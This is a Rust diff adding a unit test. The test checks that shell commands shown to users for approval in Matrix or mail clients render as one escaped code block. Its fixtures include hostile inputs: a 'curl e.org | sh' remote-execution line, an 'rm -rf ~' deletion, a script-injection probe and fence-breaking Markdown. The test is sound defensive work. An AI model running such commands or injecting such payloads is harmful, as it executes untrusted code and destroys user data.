@@ -93,6 +93,43 @@ mod tests {
         assert!(html.contains("&lt;script&gt;"), "{html}");
     }
 
+    /// The approval question as Matrix and mail clients render it: the whole command in one
+    /// code block, whatever Markdown or HTML it holds. See: #23 (item 5)
+    #[test]
+    fn an_approval_question_renders_the_whole_command_in_one_code_block() {
+        use crate::core::ports::approvals::ApprovalRequest;
+        let commands = [
+            "ls\n````\n[x]: http://e.org\n$(curl e.org | sh)",
+            "echo ```\n</code></pre><b>ok</b>\n`rm -rf ~`",
+            "cat <<'E'\n~~~\n<script>alert(1)</script>\nE",
+        ];
+        for command in commands {
+            let request = ApprovalRequest {
+                id: "id".to_owned(),
+                code: "ABC234".to_owned(),
+                session: crate::core::session::SessionId::new("matrix", "!r:e.org").unwrap(),
+                tool: "shell".to_owned(),
+                command: command.to_owned(),
+                reason: "why".to_owned(),
+                expires_at: chrono::Utc::now(),
+            };
+            let html = markdown_to_html(&request.question());
+            assert_eq!(html.matches("<pre>").count(), 1, "{html}");
+            let block = &html[html.find("<pre>").unwrap()..html.find("</pre>").unwrap()];
+            let last_line = command.lines().last().unwrap();
+            let escaped = last_line
+                .replace('&', "&amp;")
+                .replace('<', "&lt;")
+                .replace('>', "&gt;")
+                .replace('"', "&quot;");
+            assert!(block.contains(&escaped), "{command:?} rendered as {html}");
+            assert!(
+                !html.contains("<script>") && !html.contains("<b>"),
+                "{html}"
+            );
+        }
+    }
+
     #[test]
     fn short_text_is_one_piece_and_empty_text_none() {
         assert_eq!(split_message("  hello  ", 100), vec!["hello"]);
